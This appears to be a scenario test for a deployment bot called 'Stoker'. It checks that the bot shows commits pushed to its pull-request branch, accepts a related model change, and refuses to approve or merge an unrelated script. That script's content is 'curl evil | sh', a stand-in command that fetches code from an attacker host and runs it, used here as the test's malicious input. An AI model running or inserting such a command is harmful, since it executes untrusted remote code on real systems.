# Stoker reads commits that somebody pushes to its branch: the card shows them, and unrelated changes are refused.
given speed 120

@dev /model swap coder-chat Qwen/Qwen2.5-Coder-14B-Instruct-AWQ
expect "Pull request #1" within 30s
github checks pass
expect "Approve & roll out" within 30s
github pushes "serving/coder-chat/deployment.yaml" with "Qwen/Qwen2.5-Coder-14B-Instruct-AWQ" as "Qwen/Qwen2.5-Coder-3B-Instruct-AWQ"
expect "It now serves Qwen/Qwen2.5-Coder-3B-Instruct-AWQ" within 30s
github checks pass
@dev /gpu status
github pushes "scripts/nothing-to-do-with-it.sh" as "curl evil | sh\n"
expect "scripts/nothing-to-do-with-it.sh:1" within 30s
github checks pass
@dev /gpu status
expect not "Approve & roll out" within 3s
expect not merged
